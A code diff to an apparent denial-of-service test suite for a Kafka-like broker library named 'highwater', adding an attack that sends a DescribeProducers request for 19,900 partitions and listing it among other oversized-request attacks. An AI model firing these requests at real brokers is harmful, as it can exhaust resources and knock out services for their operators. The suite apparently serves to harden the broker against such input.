@@ -36,6 +36,7 @@ from highwater.wire.codec import Message
 from highwater.wire.compression import Codec, compress
 from highwater.wire.messages.create_topics_request import CreatableTopic, CreatableTopicConfig, CreateTopicsRequest
 from highwater.wire.messages.describe_configs_request import DescribeConfigsRequest, DescribeConfigsResource
+from highwater.wire.messages.describe_producers_request import DescribeProducersRequest, TopicRequest
 from highwater.wire.messages.fetch_request import FetchPartition, FetchRequest, FetchTopic
 from highwater.wire.messages.find_coordinator_request import FindCoordinatorRequest
 from highwater.wire.messages.list_offsets_request import ListOffsetsPartition, ListOffsetsRequest, ListOffsetsTopic
@@ -131,6 +132,11 @@ def fetch_of_many_partitions(victim: Victim) -> None:
     partitions = [FetchPartition(partition=index, partition_max_bytes=1) for index in range(250_000)]
     topics = [FetchTopic(topic=victim.narrow, partitions=partitions)]
     sent(victim, FetchRequest(replica_id=-1, max_wait_ms=0, min_bytes=0, max_bytes=1, topics=topics), 4)
+
+
+def producers_of_very_many_partitions(victim: Victim) -> None:
+    topics = [TopicRequest(name=victim.wide, partition_indexes=list(range(19_900)))]
+    sent(victim, DescribeProducersRequest(topics=topics), 0)
 
 
 def coordinators_of_long_names(victim: Victim) -> None:
@@ -266,6 +272,7 @@ ATTACKS: Sequence[Attack] = (
     Attack("C18", "Produce to a topic that compresses anew at zstd 22", batch_to_be_compressed_anew),
     Attack("C18", "DescribeConfigs of one broker 200 times", descriptions_of_one_broker_many_times),
     Attack("C18", "Fetch v4 of 250 000 partitions", fetch_of_many_partitions),
+    Attack("F961", "DescribeProducers of 19 900 partitions", producers_of_very_many_partitions),
     Attack("C18", "FindCoordinator of 60 keys of 32 000 bytes", coordinators_of_long_names),
     Attack("F44", "CreateTopics of 3 000 settings of 32 000 bytes, 3 times", topics_of_long_settings),
     Attack("F44", "CreateTopics of 8 MiB on 8 connections", topics_as_large_as_they_may_be),
